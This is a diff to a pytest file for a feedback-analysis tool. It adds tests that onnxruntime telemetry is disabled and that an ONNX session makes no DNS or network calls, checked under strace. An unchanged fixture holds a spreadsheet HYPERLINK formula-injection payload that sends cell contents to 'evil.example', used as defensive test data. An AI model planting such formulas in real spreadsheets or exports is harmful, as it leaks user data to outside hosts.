@@ -44,6 +44,7 @@ SEEDS = [
     ("Bartholomew Fenwick from support was rude and never called back.", "Fenwick"),
     ("Ask for Priya Raman, she fixed the steam wand in minutes.", "Priya Raman"),
 ]
+STRACE = ["strace", "-f", "-qq", "-e", "trace=connect,sendto"]
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
 
 
@@ -227,3 +228,40 @@ def test_evidence_masks_pii_unless_no_redact(blocked_run: tuple[Path, list[Any],
     raw = CliRunner().invoke(main, [*args, "--no-redact"])
     assert raw.exit_code == 0, raw.output
     assert "4111 1111 1111 1111" in raw.output
+
+
+def test_import_insight_switches_onnxruntime_telemetry_off() -> None:
+    import os
+
+    import insight  # noqa: F401
+    from insight.offline import OFFLINE_ENV
+
+    assert os.environ.get("ORT_DISABLE_TELEMETRY") == "1"
+    assert OFFLINE_ENV["ORT_DISABLE_TELEMETRY"] == "1"
+
+
+@pytest.mark.skipif(not shutil.which("strace"), reason="strace is not installed")
+def test_onnx_session_makes_no_dns_lookup(tmp_path: Path) -> None:
+    """onnxruntime's telemetry thread resolves its collector within seconds of the first
+    session (10 look-ups in 90 s without ORT_DISABLE_TELEMETRY); through insight: none."""
+    models = Path(__file__).resolve().parent.parent / "models" / "emotions" / "model.onnx"
+    code = (
+        "import time, insight\n"
+        "from insight.offline import onnxruntime\n"
+        "ort = onnxruntime()\n"
+        f"s = ort.InferenceSession({str(models)!r}, providers=['CPUExecutionProvider'])\n"
+        "time.sleep(20)\n"
+    )
+    log = tmp_path / "strace.log"
+    res = subprocess.run(
+        [*STRACE, "-o", str(log), sys.executable, "-c", code],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
+    )
+    if res.returncode != 0 and "ptrace" in res.stderr.lower():
+        pytest.skip("ptrace is not permitted here")
+    assert res.returncode == 0, res.stderr[-2000:]
+    calls = [ln for ln in log.read_text().splitlines() if "AF_INET" in ln or "htons(53)" in ln]
+    assert calls == [], calls[:5]
